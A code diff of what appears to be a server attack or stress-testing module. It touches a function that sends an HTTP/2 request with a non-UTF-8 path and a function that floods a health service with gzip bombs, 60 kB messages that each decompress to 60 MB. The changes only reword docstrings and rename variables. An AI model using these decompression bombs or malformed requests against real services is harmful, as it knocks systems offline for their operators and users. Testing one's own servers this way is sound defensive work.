@@ -13,14 +13,14 @@ FRAME_BYTES = 16_000
 
 
 def undecodable_path(target: Target) -> None:
-    """A call to a method whose name is no text, without a key."""
+    """Calls a method whose name is not UTF-8, without a key."""
     with raw_connection(target.address) as connection:
         connection.send(GREETING, frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, header_block("/doherty/\udcff")))
-        next((one for one in connection.frames() if one.stream == 1), None)
+        next((received for received in connection.frames() if received.stream == 1), None)
 
 
 def gzip_bombs(target: Target) -> None:
-    """Messages of 60 kB to the open health service, all at once, which decompress to 60 MB each."""
+    """Sends messages of 60 kB to the open health service at the same time. Each decompresses to 60 MB."""
     packer = zlib.compressobj(9, wbits=31)
     data = packer.compress(bytes(BOMB_BYTES)) + packer.flush()
     message = b"\1" + len(data).to_bytes(4) + data
@@ -33,7 +33,7 @@ def gzip_bombs(target: Target) -> None:
                 connection.send(frame(Kind.DATA, 0, 1, message[at : at + FRAME_BYTES]))
             connection.send(frame(Kind.DATA, END_STREAM, 1))
         for connection in connections:
-            next((one for one in connection.frames() if one.stream == 1), None)
+            next((received for received in connection.frames() if received.stream == 1), None)
 
 
 def _flood(flood: Flood) -> Attack:
